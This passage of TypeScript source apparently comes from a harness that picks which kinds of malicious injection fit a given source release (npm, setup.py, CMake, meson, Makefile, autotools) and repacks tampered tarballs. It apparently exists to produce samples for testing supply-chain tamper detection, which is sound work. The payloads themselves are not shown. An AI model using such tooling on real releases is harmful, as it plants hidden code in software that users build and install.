  // only a distribution that has a setup.py runs one when it is built
  if (files.includes('setup.py')) kinds.push('setup-exec')
  return kinds
}

/** Which injections an npm package can take: every one has a manifest; code needs JavaScript outside tests. */
export function applicableNpmKinds(files: readonly string[]): TamperKind[] {
  if (!files.includes('package.json')) return []
  return files.some(isPackageCode) ? [...NPM_TAMPER_KINDS] : ['npm-install-script', 'npm-dependency']
}

/** Which injections a CMake release can take: a payload needs the top CMakeLists.txt and its project(). */
export function applicableCmakeKinds(files: readonly string[]): TamperKind[] {
  return [...(files.includes('CMakeLists.txt') ? (['cmake-payload'] as const) : []), ...(files.some(isProgramSource) ? (['c-line'] as const) : [])]
}

/** Which injections a meson release can take. */
export function applicableMesonKinds(files: readonly string[]): TamperKind[] {
  return [...(files.includes('meson.build') ? (['meson-payload'] as const) : []), ...(files.some(isProgramSource) ? (['c-line'] as const) : [])]
}

/** Which injections a release built by a hand-written Makefile can take. */
export function applicablePlainKinds(files: readonly string[]): TamperKind[] {
  return [...(['GNUmakefile', 'Makefile', 'makefile'].some((f) => files.includes(f)) ? (['plain-makefile'] as const) : []), ...(files.some(isProgramSource) ? (['c-line'] as const) : [])]
}

/** Which injections a release can take (configure and Makefile.in exist only in autotools releases). */
export function applicableKinds(files: readonly string[]): TamperKind[] {
  const kinds: TamperKind[] = []
  const has = (re: RegExp): boolean => files.some((f) => re.test(f))
  if (has(/^configure\.(ac|in)$/)) kinds.push('m4-payload')
  if (has(/\.c$/)) kinds.push('c-line')
  if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code', 'outside-write', 'configure-stealth', 'sabotage')
  if (has(/^configure$/) && has(/\.[ch]$/)) kinds.push('source-rewrite')
  if (has(/(^|\/)Makefile\.in$/)) kinds.push('makefile-rule', 'makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable')
  if (has(/\.h\.in$/)) kinds.push('config-header')
  return kinds
}

/** Unpacks `tarball`, injects `kind`, packs it again as `out` (gzip) with the same top directory. */
export function tamperTarball(tarball: string, out: string, kind: TamperKind, seed: string): Tampering {
  const work = mkdtempSync(join(out, '..', '.tamper-'))
  try {
    execFileSync('tar', ['-xf', tarball, '-C', work])
    const top = readdirSync(work)
    const root = top.length === 1 && statSync(join(work, top[0] ?? '')).isDirectory() ? join(work, top[0] ?? '') : work
    const tampering = INJECT[kind](root, walk(root), draw(`${seed}/${kind}`))
    execFileSync('tar', ['-czf', out, '-C', work, ...(root === work ? ['.'] : [top[0] ?? '.'])])
    return tampering
  } finally {
    rmSync(work, { recursive: true, force: true })
  }
}

/** The files of a tarball (top directory stripped), for choosing what it can be tampered with. */
export function tarballFiles(tarball: string): string[] {
  const list = execFileSync('tar', ['-tf', tarball], { maxBuffer: 256 * 1024 * 1024 }).toString('utf8').split('\n').filter((l) => l && !l.endsWith('/'))
  return list.map((l) => l.replace(/^\.\//, '').replace(/^[^/]+\//, ''))
}
